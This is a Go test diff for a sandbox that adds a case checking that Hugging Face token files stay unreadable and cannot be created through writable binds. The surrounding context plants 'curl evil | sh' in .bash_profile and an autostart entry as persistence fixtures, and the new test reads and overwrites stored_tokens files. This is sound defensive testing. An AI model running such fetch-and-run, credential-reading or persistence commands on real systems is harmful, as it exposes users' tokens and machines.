@@ -2,6 +2,7 @@ package sandboxtest
 
 import (
 	"os"
+	"strings"
 	"testing"
 )
 
@@ -134,4 +135,42 @@ ok other 'echo o > {home}/rtB/other'
 	f.expect(c, want{"profile": "yes", "autostart": "yes"})
 	f.wantHostFile("{home}/.bash_profile", "curl evil | sh\n")
 	f.wantHostFile("{home}/.config/autostart/evil.desktop", "[Desktop Entry]\n")
+}
+
+// H10: Hugging Face's stored_tokens (every named token huggingface_hub
+// keeps, next to the active token) is denied like token: unreadable in
+// both layouts, and a read-write bind of ~/.cache/huggingface, where a
+// command could create it, is refused. Controls: bwrap with the host
+// root reads it; bwrap with the directory bound read-write creates it.
+func testHFStoredTokens(t *testing.T, f *fixture) {
+	f.write(f.expand("{home}/.cache/huggingface/token"), f.expand("hf_{marker}\n"))
+	f.write(f.expand("{home}/.cache/huggingface/stored_tokens"), f.expand("[work]\nhf_token = hf_{marker}\n"))
+	f.write(f.expand("{home}/.huggingface/stored_tokens"), f.expand("[old]\nhf_token = hf_{marker}\n"))
+	f.write(f.expand("{home}/.cache/huggingface/hub/model"), "weights\n")
+	script := `
+val stored 'cat {home}/.cache/huggingface/stored_tokens'
+val legacy 'cat {home}/.huggingface/stored_tokens'
+val model 'cat {home}/.cache/huggingface/hub/model'
+`
+	for _, layout := range []string{"", denylist} {
+		r := f.sandbox(layout, script, call{}) // noMarker: neither token shows
+		f.expect(r, want{"model": "weights"})
+	}
+	c := f.exec(call{argv: []string{bwrapPath, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-all",
+		"/bin/sh", "-c", f.expand("cat {home}/.cache/huggingface/stored_tokens {home}/.huggingface/stored_tokens")}})
+	if n := strings.Count(c.stdout, f.marker); n != 2 {
+		t.Errorf("control: plain bwrap read %d of 2 markers: %v", n, c)
+	}
+
+	// Absent: a writable ~/.cache/huggingface would let a command create
+	// it for the host's huggingface_hub to use.
+	if err := os.Remove(f.expand("{home}/.cache/huggingface/stored_tokens")); err != nil {
+		t.Fatal(err)
+	}
+	hf := f.expand("{home}/.cache/huggingface")
+	f.compileRefused("binds:\n  - {src: "+hf+", readonly: false}\n", "[H10]", "could create the denied path", hf+"/stored_tokens")
+	c = f.exec(call{argv: []string{bwrapPath, "--ro-bind", "/", "/", "--bind", hf, hf, "--dev", "/dev", "--proc", "/proc", "--unshare-all",
+		"/bin/sh", "-c", "echo '[evil]' > " + hf + "/stored_tokens"}})
+	f.wantCode(c, 0)
+	f.wantHostFile("{home}/.cache/huggingface/stored_tokens", "[evil]\n")
 }
